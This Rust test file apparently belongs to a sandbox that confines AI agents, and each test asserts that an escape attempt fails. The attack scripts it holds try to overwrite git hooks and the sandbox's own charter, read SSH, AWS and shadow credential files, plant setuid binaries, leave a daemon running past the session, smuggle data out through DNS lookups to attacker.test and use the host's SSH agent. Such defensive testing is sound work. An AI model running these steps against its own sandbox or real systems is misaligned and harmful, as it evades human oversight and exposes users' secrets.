//! What an agent that wants out, or wants to break things, tries from where it stands.

use crate::support::{Case, World, nothing, program, stderr};
use flyball_testkit::repo::CANARY;
use flyball_testkit::user::User;

pub fn cases() -> Vec<Case> {
    vec![
        Case { name: "other_spellings_meet_the_same_rule", needs: nothing, run: spellings },
        Case { name: "what_lies_below_a_moved_folder_meets_its_rules", needs: nothing, run: below },
        Case { name: "credentials_and_the_record_are_out_of_reach", needs: nothing, run: secrets },
        Case { name: "the_charter_can_be_read_and_never_written", needs: nothing, run: own_charter },
        Case { name: "apply_takes_no_privilege_and_no_device", needs: nothing, run: privilege },
        Case { name: "a_huge_file_neither_stops_the_session_nor_hides", needs: nothing, run: huge },
        Case { name: "writes_through_a_kept_descriptor_are_on_record", needs: nothing, run: kept },
        Case { name: "a_daemon_does_not_outlive_the_session", needs: nothing, run: daemon },
        Case { name: "names_that_are_asked_carry_nothing_out", needs: own_resolver, run: names },
        Case { name: "the_users_ssh_agent_signs_nothing", needs: |_| program("ssh-agent"), run: ssh_agent },
    ]
}

/// The hook must stay as it was, whatever the way to it.
fn spellings(user: User) {
    let world = World::new(user);
    world.init("", "");
    let hook = world.repo.workspace().join(".git/hooks/pre-commit");
    let before = std::fs::read(&hook).unwrap();
    let script = r#"
        d=$(pwd)
        printf owned > .git/hooks/pre-commit
        printf owned > .git/./hooks//pre-commit
        printf owned > docs/../.git/hooks/pre-commit
        printf owned > "/proc/self/cwd/.git/hooks/pre-commit"
        ln -s .git/hooks h && printf owned > h/pre-commit
        ln -s "$d/.git" g && printf owned > g/hooks/pre-commit
        printf owned > t && mv t .git/hooks/pre-commit
        printf owned > t2 && ln t2 .git/hooks/pre-commit
        printf owned > t3 && cp t3 .git/hooks/pre-commit
        mv .git/hooks .git/other
        rm -f .git/hooks/pre-commit
        mv .git moved-git
        truncate -s 0 .git/hooks/pre-commit
        chmod 777 .git/hooks/pre-commit
        dd if=t3 of=.git/hooks/pre-commit
        tee .git/hooks/pre-commit < t3
        install -m 755 t3 .git/hooks/pre-commit
        perl -e 'open(F, "+<", ".git/hooks/pre-commit") and print F "owned"'
        perl -e 'mkdir ".git/h2"; rename(".git/h2", ".git/hooks")'
        git config core.hooksPath evil
        cat .git/hooks/pre-commit
    "#;
    std::fs::write(world.repo.workspace().join("attack.sh"), script).unwrap();
    let output = world
        .flyball(&["run", "--json", "--apply", "never", "--on-hold", "deny", "--", "sh", "attack.sh"])
        .output()
        .unwrap();
    let seen = String::from_utf8_lossy(&output.stdout);
    assert!(seen.contains("exit 0") && !seen.contains("owned"), "{seen}\n{}", stderr(&output));
    assert_eq!(std::fs::read(&hook).unwrap(), before);
    let log = world.log();
    let left = world.ok(&["at", "@", &log.last().unwrap()["seq"].to_string()]);
    // The links beside it are harmless; nothing in the folder changed.
    let touched =
        left.lines().any(|line| line.split_whitespace().last().is_some_and(|path| path.starts_with(".git/hooks")));
    assert!(!touched, "{left}\n{}", stderr(&output));
    assert!(!world.repo.git(user, &["config", "--list"]).unwrap().contains("hookspath"));
    world.verifies();
}

const BELOW: &str = r#"
@id("nothing-in-kept") @owner("maintainer") @reason("kept is kept")
forbid (principal, action == Action::"fs.write", resource) when { resource.rel like "kept/*" };
@id("x-stays") @owner("maintainer") @reason("x stays where it is")
forbid (principal, action in [Action::"fs.move", Action::"fs.delete"], resource) when { resource.rel == "old/x" };
"#;

/// Neither rule is about a folder's own path: the files below it are what counts.
fn below(user: User) {
    let world = World::new(user);
    world.init("", BELOW);
    let script = r#"
        mkdir -p old/deep a/deep many target/b
        printf 1 > old/deep/y; printf 1 > a/deep/y; printf 1 > target/b/z; : > old/x
        say() { perl -e 'print rename($ARGV[0], $ARGV[1]) ? "moved\n" : $!+0 . "\n"' "$1" "$2"; }
        say a kept
        say target/b kept
        say old gone
        say old /tmp/gone
        say a fine
        seq -f 'many/%.0f' 1 2501 | xargs touch
        say many other
        rm many/1
        say many other
        mv other kept; ls kept | wc -l
    "#;
    std::fs::write(world.repo.workspace().join("attack.sh"), script).unwrap();
    let output = world
        .flyball(&["run", "--json", "--apply", "never", "--on-hold", "deny", "--", "sh", "attack.sh"])
        .output()
        .unwrap();
    let seen = String::from_utf8_lossy(&output.stdout).into_owned();
    let said: Vec<&str> = seen.lines().take(8).collect();
    let denied = "13";
    assert_eq!(said, [denied, denied, denied, denied, "moved", "18", "moved", "0"], "{seen}\n{}", stderr(&output));
    let stderr = stderr(&output);
    for line in ["denied fs.write", "nothing-in-kept", "x-stays", "kept/deep (", "at most 2500 entries"] {
        assert!(stderr.contains(line), "{line}: {stderr}");
    }
    world.verifies();
}

fn secrets(user: User) {
    let world = World::new(user);
    world.init("", "");
    let ledger = world.repo.scratch().join("ledger");
    let script = format!(
        "cat ~/.ssh/* ~/.aws/* ~/.netrc ~/.config/gh/*; cp -r ~/.ssh /tmp/x; cat /tmp/x/*; ls -la {0}; cat {0}/keys/*; \
         cat {1}/notes.txt; cat /proc/1/environ /proc/1/root/etc/shadow; ls /proc/1/root{0}; \
         find / -name id_ed25519 -o -name ledger.db 2>/dev/null",
        ledger.display(),
        world.repo.outside().display()
    );
    std::fs::write(world.repo.workspace().join("attack.sh"), script).unwrap();
    let (_, output) = world.run("sh attack.sh");
    let seen = String::from_utf8_lossy(&output.stdout);
    for leak in [CANARY, "ledger.db", "next to the workspace", "PRIVATE"] {
        assert!(!seen.contains(leak), "{leak}:\n{seen}");
    }
    world.verifies();
}

fn own_charter(user: User) {
    let world = World::new(user);
    world.init("", "");
    // The same on the inbox, whose text must stay its own.
    let script = r#"
        for f in .flyball/charter.toml "$FLYBALL_INBOX"; do
            d=$(dirname "$f"); b=$(basename "$f")
            printf forged >> "$f"; printf forged > "$f"; truncate -s 0 "$f"; printf forged | tee "$f"
            printf forged > new; mv -f new "$f"; printf forged > new; cp new "$f"; ln -f new "$f"; ln -sf "$PWD/new" "$f"
            ln "$f" link && printf forged >> link; ln -s "$f" way; printf forged >> way
            mkdir other; printf forged > "other/$b"; mv -T other "$d"; mv "$d" gone; rm -rf "$d"; rmdir "$d"
            perl -e '($a, $b) = @ARGV; print "SWAPPED\n" unless syscall(316, -100, $a, -100, $b, 2)' "$d" other
            mount --bind other "$d"; mount -t tmpfs none "$d"; umount "$d"; unshare -rm mount --bind other "$d"
            chmod 777 "$f" "$d"; chown 0:0 "$f"; touch "$d/more" "$f"; mkfifo "$d/p"; mkdir "$d/x"; setfattr -n user.x -v y "$f"
            perl -e 'open(F, "+<", $ARGV[0]) and print F "forged"' "$f"
            perl -e 'open(F, "<", $ARGV[0]); open(G, "+>&=", fileno(F)) and syswrite(G, "forged")' "$f"
            perl -e 'open(F, "<", $ARGV[0]); open(G, "+<", "/proc/self/fd/" . fileno(F)) and syswrite(G, "forged")' "$f"
            mv "$PWD" "$PWD-moved"; cd .. && mv "$OLDPWD" moved; cd "$OLDPWD"
            ls -A "$d" | tr '\n' ' '; echo; cat "$f" | tr '\n' ' ' | cut -c1-90
        done
        test -s .flyball/charter.toml && echo still-there
    "#;
    std::fs::write(world.repo.workspace().join("attack.sh"), script).unwrap();
    let all = || -> Vec<(std::ffi::OsString, Vec<u8>)> {
        let mut all: Vec<_> = std::fs::read_dir(world.repo.workspace().join(".flyball"))
            .unwrap()
            .map(|entry| entry.unwrap())
            .map(|entry| (entry.file_name(), std::fs::read(entry.path()).unwrap()))
            .collect();
        all.sort();
        all
    };
    let before = all();
    let output = world
        .flyball(&["run", "--json", "--apply", "never", "--on-hold", "deny", "--", "sh", "attack.sh"])
        .output()
        .unwrap();
    let seen = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(seen.contains("still-there") && !seen.contains("SWAPPED"), "{seen}\n{}", stderr(&output));
    // Beside the inbox stands whom programs trust.
    let holds =
        |folder: &str| seen.lines().any(|line| line.replace("trust.jks ", "").replace("trust.pem ", "") == folder);
    // Without namespaces the inbox lies where only its name is known.
    let is_hidden = !seen.contains("inbox.jsonl");
    assert!(holds("charter.toml more.cedar rules.cedar ") && (is_hidden || holds("inbox.jsonl ")), "{seen}");
    let session =
        std::fs::read_dir(world.repo.scratch().join("ledger/sessions")).unwrap().next().unwrap().unwrap().path();
    for made in ["more", "p", "x", "gone", "other"] {
        assert!(std::fs::symlink_metadata(session.join(made)).is_err(), "{made} lies beside the inbox");
    }
    assert!(seen.lines().any(|line| line.starts_with("{\"at\":")), "the inbox is what it was: {seen}");
    world.ok(&["apply", "@"]);
    assert_eq!(all(), before);
    world.verifies();
}

/// What would be more than a file in the real workspace does not get there, and the user reads of it.
fn privilege(user: User) {
    let world = World::new(user);
    world.init("", "");
    let script = r#"
        cp /bin/true own; chmod 6755 own
        cp /bin/true fine; chmod 755 fine
        ln own second
        mkfifo pipe; rm README.md; mkfifo README.md
        perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); bind(S, sockaddr_un("socket")) or die'
        mknod disk b 8 0; mknod mem c 1 1; mknod gone c 0 0
        setcap cap_setuid+ep fine; setfattr -n security.capability -v 0x0100000280000000000000000000000000000000 fine
        ls -l own | cut -c1-10
    "#;
    std::fs::write(world.repo.workspace().join("attack.sh"), script).unwrap();
    let readme = world.repo.text("README.md").unwrap();
    let (_, output) = world.run("sh attack.sh");
    let seen = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(seen.contains("-rwsr-sr-x"), "it was made inside: {seen}\n{}", stderr(&output));
    let told = world.flyball(&["apply", "@"]).output().unwrap();
    let said = stderr(&told);
    assert!(told.status.success(), "{said}");
    let line = |what: &str| {
        said.lines().find(|line| line.contains(what)).unwrap_or_else(|| panic!("{what}: {said}")).to_owned()
    };
    assert!(line("set-user-id").ends_with("own, second"), "{said}");
    assert!(line("left out").ends_with("README.md, pipe, socket"), "{said}");
    let workspace = world.repo.workspace();
    for name in ["own", "second", "fine"] {
        use std::os::unix::fs::MetadataExt;
        let file = std::fs::symlink_metadata(workspace.join(name)).unwrap();
        assert_eq!(file.mode() & 0o7777, 0o755, "{name}");
        let attributes =
            std::process::Command::new("getfattr").args(["-d", "-m", "-"]).arg(workspace.join(name)).output();
        assert!(attributes.map_or(true, |told| told.stdout.is_empty()), "{name}");
    }
    for name in ["pipe", "socket", "disk", "mem", "gone"] {
        assert!(std::fs::symlink_metadata(workspace.join(name)).is_err(), "{name}");
    }
    assert_eq!(world.repo.text("README.md").unwrap(), readme, "what was to take its place is not there");
    let done = world.log().into_iter().rfind(|e| e["body"]["act"] == "apply").unwrap();
    assert_eq!(done["body"]["stripped"], serde_json::json!(["own", "second"]));
    world.verifies();
}

fn huge(user: User) {
    let world = World::new(user);
    world.init("", "");
    let script = "truncate -s 100G big && env true && echo goes-on && rm big && env true && echo removed";
    std::fs::write(world.repo.workspace().join("work.sh"), script).unwrap();
    let (_, output) = world.run("sh work.sh");
    let seen = String::from_utf8_lossy(&output.stdout);
    assert!(seen.contains("goes-on") && seen.contains("removed"), "{seen}\n{}", stderr(&output));
    assert!(world.log().iter().any(|e| e["kind"] == "alert" && e["body"]["alert"] == "unread"));
    world.verifies();
}

fn kept(user: User) {
    let world = World::new(user);
    world.init("", "");
    // One open, writes long after it, with programs run in between.
    let script = "exec 7>kept.txt; printf one >&7; env true; printf two >&7; env true; printf three >&7";
    std::fs::write(world.repo.workspace().join("work.sh"), script).unwrap();
    let (_, output) = world.run("sh work.sh");
    let log = world.log();
    let looks = log.iter().filter(|e| e["kind"] == "observe" && e.to_string().contains("kept.txt")).count();
    assert!(looks >= 3, "{looks} looks\n{}", stderr(&output));
    let last = log.last().unwrap()["seq"].to_string();
    assert_eq!(world.ok(&["at", "@", &last, "kept.txt"]).trim_end(), "onetwothree");
    assert!(!log.iter().any(|e| e["body"]["alert"] == "unexplained"));
}

fn daemon(user: User) {
    let world = World::new(user);
    world.init("", "");
    let script = "setsid sh -c 'while :; do printf . >> beat; sleep 0.01; done' > /dev/null 2>&1 & sleep 0.3; echo end";
    let (summary, _) = world.run(script);
    assert_eq!(summary["exit"], 0);
    let sessions = std::fs::read_dir(world.repo.scratch().join("ledger/sessions")).unwrap();
    let session = sessions.filter_map(Result::ok).next().unwrap().path();
    let length = || std::fs::metadata(session.join("workspace/upper/beat")).unwrap().len();
    let at_end = length();
    std::thread::sleep(std::time::Duration::from_millis(200));
    assert_eq!(length(), at_end);
}

/// Why no machine can be made whose resolver is the test's own, if so.
fn own_resolver(_: User) -> Option<String> {
    if !User::current().is_root() {
        return Some("giving this machine a resolver of the test's own takes root".to_owned());
    }
    ["unshare", "setpriv", "ip", "python3"].into_iter().find_map(program)
}

/// Answers that no name is there, and writes down what it was asked.
const RESOLVER: &str = r#"
import socket, sys, threading
log = open(sys.argv[1] + "/asked", "a", buffering=1)
def name(query):
    at, labels = 12, []
    while query[at]:
        labels.append(query[at + 1:at + 1 + query[at]].decode("latin1")); at += query[at] + 1
    return ".".join(labels)
def answer(query):
    log.write(name(query) + "\n")
    return query[:2] + b"\x81\x83" + query[4:6] + b"\0\0\0\0\0\0" + query[12:]
udp, tcp = socket.socket(type=socket.SOCK_DGRAM), socket.socket()
tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
for s in (udp, tcp): s.bind(("127.0.0.1", 53))
tcp.listen(9)
def streams():
    while True:
        peer, _ = tcp.accept()
        log.write(name(peer.recv(2048)[2:]) + "\n"); peer.close()
threading.Thread(target=streams, daemon=True).start()
open(sys.argv[1] + "/ready", "w").close()
while True:
    query, peer = udp.recvfrom(2048); udp.sendto(answer(query), peer)
"#;

/// Asks for names that say something, in all ways there are, and at the end for one that it may connect to.
const ASKER: &str = r#"
import socket, struct
def query(name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
def quiet(what):
    try: return what()
    except OSError: return None
def datagram(server, packet):
    s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(0.3); s.sendto(packet, (server, 53)); return s.recv(512)
def stream(server, packet):
    s = socket.create_connection((server, 53), 0.5); s.sendall(struct.pack(">H", len(packet)) + packet); return s.recv(512)
told = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
answers = 0
for server in told + ["127.0.0.1", "8.8.8.8"]:
    for number, kind in enumerate((1, 28, 16, 10, 15, 33, 65, 255)):
        for way in (datagram, stream):
            answers += quiet(lambda: way(server, query(f"c2vjcmv0.{number}.attacker.test", kind))) is not None
for name in ("c2vjcmv0.attacker.test", "_c2vjcmv0._tcp.attacker.test"):
    quiet(lambda: socket.getaddrinfo(name, 80)); quiet(lambda: socket.create_connection((name, 80), 0.5))
quiet(lambda: socket.create_connection(("allowed.test", 80), 2))
print("asked and answered", answers)
"#;

/// A name is asked of the outside when somebody may connect to it, and not before.
fn names(user: User) {
    let world = World::new(user);
    world.init("", "");
    world.edit(
        "rules.cedar",
        "(resource.port == 443 &&",
        "resource.host == \"allowed.test\" || (resource.port == 443 &&",
    );
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| std::fs::write(dir.path().join(name), text).unwrap();
    write("resolver.py", RESOLVER);
    write("resolv.conf", "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n");
    std::fs::write(world.repo.workspace().join("asker.py"), ASKER).unwrap();
    // Whatever happens, nobody is left who holds the output open.
    let script = format!(
        "set -e; ip link set lo up; mount --bind $D/resolv.conf /etc/resolv.conf; \
         python3 $D/resolver.py $D & resolver=$!; trap 'kill $resolver' EXIT; \
         until test -e $D/ready; do kill -0 $resolver; sleep 0.02; done; \
         setpriv --reuid {} --regid {} --clear-groups \"$@\"",
        user.uid(),
        user.gid()
    );
    let governed = world.flyball(&[
        "run",
        "--json",
        "--apply",
        "never",
        "--on-hold",
        "deny",
        "--",
        "/usr/bin/python3",
        "asker.py",
    ]);
    let mut command = std::process::Command::new("unshare");
    command.args(["--mount", "--net", "sh", "-c", &script, "sh"]).arg(governed.get_program()).args(governed.get_args());
    command.env_clear().envs(governed.get_envs().filter_map(|(name, value)| Some((name, value?))));
    let output = command.env("D", dir.path()).current_dir(world.repo.workspace()).output().unwrap();
    let seen = String::from_utf8_lossy(&output.stdout);
    // The session's own name server was there to be asked.
    let answers = seen.split("asked and answered ").nth(1).and_then(|rest| rest.lines().next()?.parse::<u32>().ok());
    assert!(answers.is_some_and(|answers| answers >= 8), "{seen}\n{}", stderr(&output));
    let asked = std::fs::read_to_string(dir.path().join("asked")).unwrap_or_default();
    assert!(asked.contains("allowed.test"), "{asked:?}\n{seen}\n{}", stderr(&output));
    assert!(!asked.contains("attacker"), "{asked}");
    world.verifies();
}

/// Its socket is a path like others, and `SSH_AUTH_SOCK` leads there: neither reaches the session, named or guessed.
fn ssh_agent(user: User) {
    let world = World::new(user);
    world.init("", "");
    world.edit("charter.toml", "pass = [", "pass = [\n    \"SSH_AUTH_SOCK\",");
    // In the home and in a temporary folder: where people have it.
    let dir = tempfile::tempdir().unwrap();
    user.own(dir.path()).unwrap();
    for socket in [world.repo.home().join(".ssh/agent.sock"), dir.path().join("agent.sock")] {
        let as_user = |name: &str| user.command(std::path::Path::new(name), &world.repo.home());
        let mut agent =
            as_user("ssh-agent").arg("-D").arg("-a").arg(&socket).stdout(std::process::Stdio::null()).spawn().unwrap();
        let key = dir.path().join("key");
        let _ = std::fs::remove_file(&key);
        let made =
            as_user("ssh-keygen").args(["-q", "-t", "ed25519", "-N", "", "-C", "of-the-host", "-f"]).arg(&key).status();
        assert!(made.unwrap().success());
        while !socket.exists() {
            assert!(agent.try_wait().unwrap().is_none(), "the agent ended");
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
        assert!(as_user("ssh-add").arg("-q").arg(&key).env("SSH_AUTH_SOCK", &socket).status().unwrap().success());
        let lists = as_user("ssh-add").arg("-l").env("SSH_AUTH_SOCK", &socket).output().unwrap();
        assert!(String::from_utf8_lossy(&lists.stdout).contains("of-the-host"), "{lists:?}");
        let script = "ssh-add -l 2>&1; ssh-add -L 2>&1; find / -xdev -name 'agent.sock' 2>/dev/null; \
                      /usr/bin/python3 -c 'import os, socket; socket.socket(socket.AF_UNIX).connect(os.environ[\"SSH_AUTH_SOCK\"])' 2>&1; true";
        let mut governed =
            world.flyball(&["run", "--json", "--apply", "never", "--on-hold", "deny", "--", "sh", "-c", script]);
        let output = governed.env("SSH_AUTH_SOCK", &socket).output().unwrap();
        agent.kill().unwrap();
        agent.wait().unwrap();
        let seen = String::from_utf8_lossy(&output.stdout);
        assert!(seen.contains("Error connecting to agent") && seen.contains("Error: "), "{seen}\n{}", stderr(&output));
        assert!(!seen.contains("of-the-host") && !seen.contains("SHA256"), "{seen}");
    }
    world.verifies();
}
